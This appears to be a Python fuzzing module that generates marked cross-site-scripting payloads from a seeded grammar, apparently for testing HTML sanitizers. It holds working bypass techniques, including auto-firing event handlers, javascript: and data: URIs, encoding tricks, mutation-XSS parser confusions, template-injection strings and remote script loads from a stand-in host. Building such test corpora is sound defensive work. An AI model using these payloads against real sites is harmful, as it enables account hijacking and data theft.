"""Markup that would run where a page took a text for HTML: a grammar with a fixed seed.

Each payload is unique and bears its marker. What it would do says so by the marker: a dialog, a write to the console, a call to a host that
does not exist, a line in `window.__ran`. Each element it would become has the attribute `data-marked`.
"""

import random
from collections.abc import Callable
from dataclasses import dataclass
from html import escape

HOST = "marked.example"
SEED = 20_240_601
TAGS = (
    "b",
    "a",
    "p",
    "div",
    "span",
    "marquee",
    "details",
    "button",
    "form",
    "table",
    "template",
    "select",
    "x-y",
    "xmp",
)
LOADS = ("img", "video", "audio", "body", "image", "object", "embed", "link", "track", "script", "iframe", "source")
EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onpointerenter",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onscroll",
    "onpageshow",
    "oncut",
)
INVISIBLE = (
    "\u200b",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\u00ad",
    "\u202e",
    "\u202d",
    "\u2066",
    "\u2067",
    "\u202c",
    "\u2069",
    "\u061c",
)


@dataclass(frozen=True)
class Payload:
    """A text, its marker and the shape it was made from."""

    marker: str
    text: str
    shape: str


class Grammar:
    """Makes payloads; each one once."""

    def __init__(self, seed: int = SEED) -> None:
        self._rng = random.Random(seed)
        self._made: set[str] = set()
        self._count = 0

    def make(self, count: int, *, most: int = 1900) -> list[Payload]:
        """`count` payloads of at most `most` characters, every shape in turn."""
        made: list[Payload] = []
        names = list(SHAPES)
        while len(made) < count:
            shape = names[self._count % len(names)]
            marker = f"q{self._count:05d}z"
            self._count += 1
            text = SHAPES[shape](self, marker)
            if len(text) > most:
                text = self.act(marker) if shape != "long" else f"{text[: most - 60]}{self.element(marker)[:60]}"
            text = text.strip()
            if marker in text and len(text) <= most and text not in self._made:
                self._made.add(text)
                made.append(Payload(marker, text, shape))
        return made

    # The parts

    def pick(self, *of: str) -> str:
        return self._rng.choice(of)

    def code(self, marker: str) -> str:
        """What would say that it ran."""
        return self.pick(
            f"alert('{marker}')",
            f"window.__ran='{marker}'",
            f"confirm(`{marker}`)",
            f"prompt('{marker}')",
            f"print('{marker}')",
            f"fetch('https://{HOST}/{marker}')",
            f"console.log('{marker}')",
            f"top.__ran='{marker}'",
            f"new Image().src='https://{HOST}/{marker}'",
            f"setTimeout('alert(\\'{marker}\\')',1)",
            f"import('https://{HOST}/{marker}.js')",
            f"location='https://{HOST}/{marker}'",
            f"[1].map(()=>__ran='{marker}')",
        )

    def case(self, word: str) -> str:
        """Capitals here and there: HTML does not mind."""
        return "".join(self._rng.choice((letter, letter, letter.upper())) for letter in word)

    def gap(self) -> str:
        return self.pick(" ", "  ", "/", "\t", " / ", "\u000c")

    def quote(self, value: str) -> str:
        mark = self.pick('"', '"', "'")
        return f"{mark}{value.replace(mark, '&quot;' if mark == chr(34) else '&#39;')}{mark}"

    def handler(self, marker: str, *, event: str | None = None) -> str:
        return f"{self.case(event or self.pick(*EVENTS))}{self.pick('=', ' = ')}{self.quote(self.code(marker))}"

    def element(self, marker: str) -> str:
        """An element whose handler runs without anybody touching it."""
        tag, event = self.pick(
            "img/onerror", "svg/onload", "video/onerror", "audio/onerror", "body/onload", "iframe/onload"
        ).split("/")
        more = {"img": " src=x", "video": " src=x", "audio": " src=x"}.get(tag, "")
        return f"<{self.case(tag)}{self.gap()}data-marked{more} {self.handler(marker, event=event)}>"

    def act(self, marker: str) -> str:
        return f"<img data-marked src=x onerror=alert('{marker}')>"

    def scramble(self, text: str, share: float) -> str:
        """Some letters as character references, in the forms that a parser takes."""
        forms: tuple[Callable[[str], str], ...] = (
            lambda letter: f"&#{ord(letter)};",
            lambda letter: f"&#x{ord(letter):x};",
            lambda letter: f"&#{ord(letter):07d}",
            lambda letter: f"&#X{ord(letter):04X};",
        )
        return "".join(self._rng.choice(forms)(one) if self._rng.random() < share else one for one in text)

    def address(self, marker: str) -> str:
        """An address that runs, or that loads from the marked host."""
        code = self.code(marker)
        return self.pick(
            f"javascript:{code}",
            f"JaVaScRiPt:{code}",
            f"java\tscript:{code}",
            f"&#106;avascript:{code}",
            f" javascript://%0a{code}",
            f"data:text/html,<script>{code}</script>",
            f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{code}'/>",
            f"vbscript:{code}",
            f"//{HOST}/{marker}",
            f"https://{HOST}/{marker}",
            f"\\\\{HOST}\\{marker}",
            f"blob:https://{HOST}/{marker}",
        )


def _tags(made: Grammar, marker: str) -> str:
    tag = made.pick(*TAGS)
    return f"<{made.case(tag)}{made.gap()}data-marked {made.handler(marker)}{made.pick('>', '/>', ' >')}{marker}{made.pick(f'</{tag}>', '', '</')}"


def _loads(made: Grammar, marker: str) -> str:
    tag = made.pick(*LOADS)
    return f"<{made.case(tag)} data-marked {made.pick('src', 'data', 'href', 'poster', 'srcset')}={made.quote(made.address(marker))} {made.handler(marker)}>"


def _scripts(made: Grammar, marker: str) -> str:
    code = made.code(marker)
    return made.pick(
        f"<script data-marked>{code}</script>",
        f"<script data-marked type=module>{code}</script>",
        f"<ScRiPt{made.gap()}data-marked>{code}//</ScRiPt >",
        f"</textarea></title></style></script><script data-marked>{code}</script>",
        f"<script data-marked src=https://{HOST}/{marker}.js></script>",
        f"<script data-marked>//<!--\n{code}\n//--></script>",
        f"\"'><script data-marked>{code}</script>",
        f"<scr<script data-marked>ipt>{code}</scr</script>ipt>",
    )


def _drawings(made: Grammar, marker: str) -> str:
    code = made.code(marker)
    return made.pick(
        f"<svg data-marked><script>{code}</script></svg>",
        f"<svg data-marked><animate onbegin={made.quote(code)} attributeName=x dur=1s></svg>",
        f"<svg data-marked><a xlink:href={made.quote(made.address(marker))}><text>{marker}</text></a></svg>",
        f"<svg data-marked><foreignObject><img src=x {made.handler(marker, event='onerror')}></foreignObject></svg>",
        f"<svg data-marked><use href=\"data:image/svg+xml,<svg id='a' onload='{marker}'/>#a\"></svg>",
        f"<math data-marked href={made.quote(made.address(marker))}>{marker}</math>",
        f"<math data-marked><mi xlink:href={made.quote(made.address(marker))}>{marker}</mi></math>",
        f"<svg data-marked/onload={made.quote(code)}>",
    )


def _references(made: Grammar, marker: str) -> str:
    whole = made.element(marker)
    return made.pick(
        escape(whole),
        escape(escape(whole)),
        made.scramble(whole, 0.5),
        f"{made.scramble('<img', 1)} data-marked src=x onerror={made.scramble(made.code(marker), 0.6)}>",
        f'<img data-marked src=x onerror="{made.scramble(made.code(marker), 0.8)}">',
        whole.replace("<", "\\u003c").replace(">", "\\u003e"),
        whole.replace("<", "%3C").replace(">", "%3E").replace(" ", "%20"),
        whole.replace("<", "%253C").replace(">", "%253E"),
        whole.replace("<", "\uff1c").replace(">", "\uff1e"),
        whole.replace("<", "+ADw-").replace(">", "+AD4-"),
    ) + (f" {marker}")


def _addresses(made: Grammar, marker: str) -> str:
    address = made.address(marker)
    return made.pick(
        f"<a data-marked href={made.quote(address)}>{marker}</a>",
        f"<a data-marked autofocus onfocus={made.quote(made.code(marker))} href=#>{marker}</a>",
        f"<form data-marked action={made.quote(address)}><button>{marker}</button></form>",
        f"<button data-marked form=x formaction={made.quote(address)}>{marker}</button>",
        f"<meta data-marked http-equiv=refresh content={made.quote('0;url=' + address)}>",
        f"<base data-marked href={made.quote(address)}>{marker}",
        f"[{marker}]({address})",
        f"![{marker}]({address})",
        f"<{address}> {marker}",
        f"{address} {marker}",
    )


def _templates(made: Grammar, marker: str) -> str:
    code = made.code(marker)
    return made.pick(
        f"{{{{constructor.constructor({made.quote(code)})()}}}} {marker}",
        f"${{{code}}} {marker}",
        f"{{{{7*7}}}} {{% print {marker!r} %}}",
        f"{{name}} {{title}} {{count}} {{0}} {{}} {marker} {{{{ config }}}}",
        f"<%= {code} %> {marker}",
        f"#{{{code}}} @{{{marker}}} *{{{marker}}}",
        f"$& $1 $` $' $$ \\1 \\g<0> %s %d %({marker})s {marker}",
        f"<div data-marked v-html={made.quote(code)} x-html={made.quote(code)} ng-bind-html={made.quote(code)}>{{{{{marker}}}}}</div>",
        f"see (/privacy) and ({marker})",
        f"__proto__[{marker}] constructor.prototype {marker} toString",
        f'/request_human{{"value": "{marker}"}}',
    )


def _comments(made: Grammar, marker: str) -> str:
    whole = made.element(marker)
    return made.pick(
        f"<!-- {whole}",
        f"--> {whole} <!--",
        f"<!--><{whole[1:]}-->",
        f"<!--[if gte IE 4]>{whole}<![endif]-->",
        f"<![CDATA[{whole}]]>",
        f"<? {whole} ?>",
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "https://{HOST}/{marker}">]>{whole}',
        f"--!> {whole}",
    )


def _letters(made: Grammar, marker: str) -> str:
    hidden = [made.pick(*INVISIBLE) for _ in range(6)]
    whole = made.element(marker)
    return made.pick(
        f"{marker} \u202e{whole[::-1]}\u202c {whole}",
        f"<{hidden[0]}img data-marked src=x{hidden[1]} {made.handler(marker, event='onerror')}>",
        hidden[2].join(f"<img {marker}>") + whole,
        f"\u2067{whole}\u2069{hidden[3]}{marker}",
        f"{marker}{hidden[4] * 40}{whole}",
        f"Z\u0351\u036b\u0343a\u0321\u034f{whole}\u0300\u0489 {marker}",
        f"\u05e9\u05dc\u05d5\u05dd {whole} \u0645\u0631\u062d\u0628\u0627 {marker}",
        f"{whole}\ufffe\ue000\U000e0041\U0001f468\u200d\U0001f469 {marker}",
        f"<i\u017fcript data-marked>{marker}</\u017fcript>{whole}",
    )


def _mutations(made: Grammar, marker: str) -> str:
    whole = made.element(marker)
    return made.pick(
        f"<math><mtext><table><mglyph><style><!--</style>{whole}-->",
        f'<svg></p><style><a id="</style>{whole}">',
        f'<noscript><p title="</noscript>{whole}">',
        f"<form><math><mtext></form><form><mglyph><style></math>{whole}",
        f"<svg><desc><table><td></svg>{whole}</table>",
        f"<select><style></select>{whole}</style>",
        f'<xmp><p title="</xmp>{whole}">',
        f'<title><a title="</title>{whole}">',
        f'<textarea><a title="</textarea>{whole}">',
        f"<listing>&lt;{whole[1:]}</listing>{whole}",
        f"<option><template><style></option></template>{whole}</style>",
        f'`{whole}` "{whole}',
    )


def _styles(made: Grammar, marker: str) -> str:
    load = f"url(https://{HOST}/{marker})"
    return made.pick(
        f"<style data-marked>*{{background:{load}}}</style>",
        f"<style data-marked>@import '//{HOST}/{marker}.css';</style>",
        f"<div data-marked style={made.quote(f'background:{load};position:fixed;inset:0')}>{marker}</div>",
        f"<link data-marked rel=stylesheet href=//{HOST}/{marker}.css>",
        f"</style><style data-marked>body{{display:none}}:after{{content:'{marker}'}}",
        f'<p data-marked style="width:expression({marker})">{marker}',
        f"x;background:{load};}} /* {marker} */",
        f"<style data-marked>@keyframes x{{}}</style><b data-marked style=animation-name:x {made.handler(marker, event='onanimationstart')}>",
    )


def _frames(made: Grammar, marker: str) -> str:
    inner = f"<script>{made.pick('parent.', 'top.', '')}__ran='{marker}'</script>"
    return made.pick(
        f'<iframe data-marked srcdoc="{escape(inner)}"></iframe>',
        f"<iframe data-marked src={made.quote(made.address(marker))}></iframe>",
        f"<object data-marked data={made.quote(made.address(marker))}></object>",
        f"<embed data-marked src={made.quote(made.address(marker))}>",
        f"<iframe data-marked srcdoc='{made.scramble(inner, 0.4)}'>{marker}</iframe>",
        f"<portal data-marked src=https://{HOST}/{marker}></portal>",
        f"<frameset data-marked {made.handler(marker, event='onload')}><frame src=//{HOST}/{marker}>",
    )


def _breaks(made: Grammar, marker: str) -> str:
    whole = made.element(marker)
    return made.pick(
        f'" autofocus onfocus={made.quote(made.code(marker))} data-marked x="',
        f"' data-marked {made.handler(marker)} '",
        f'">{whole}',
        f"'>{whole}",
        f'\\"));{made.code(marker)}//',
        f"</script>{whole}",
        f"</p></div></li></ul></main>{whole}",
        f"');{made.code(marker)};('",
        f'{{"text": "{marker}", "buttons": [{{"title": "{whole.replace(chr(34), chr(39))}"}}]}}',
        f"line one {marker}\nline two {whole}",
        f"\u2028{made.code(marker)}\u2029{whole}",
    )


def _long(made: Grammar, marker: str) -> str:
    whole = made.element(marker)
    return made.pick(
        f"{marker}{'<b>' * 200}{whole}",
        f"{marker}{'A' * 1500}{whole}",
        f"{marker}{'<' * 900}{whole}",
        f"{marker}{'&lt;' * 300}{whole}",
        f"{marker}{'((((' * 300}{whole}",
        f"{marker}{'/*' * 400}{whole}",
        f"{marker}{'<!--' * 300}{whole}",
        f"{marker}{chr(0x1F600) * 600}{whole}",
    ) + "x" * made._rng.randint(1, 60)


SHAPES: dict[str, Callable[[Grammar, str], str]] = {
    "tags": _tags,
    "loads": _loads,
    "scripts": _scripts,
    "drawings": _drawings,
    "references": _references,
    "addresses": _addresses,
    "templates": _templates,
    "comments": _comments,
    "letters": _letters,
    "mutations": _mutations,
    "styles": _styles,
    "frames": _frames,
    "breaks": _breaks,
    "long": _long,
}
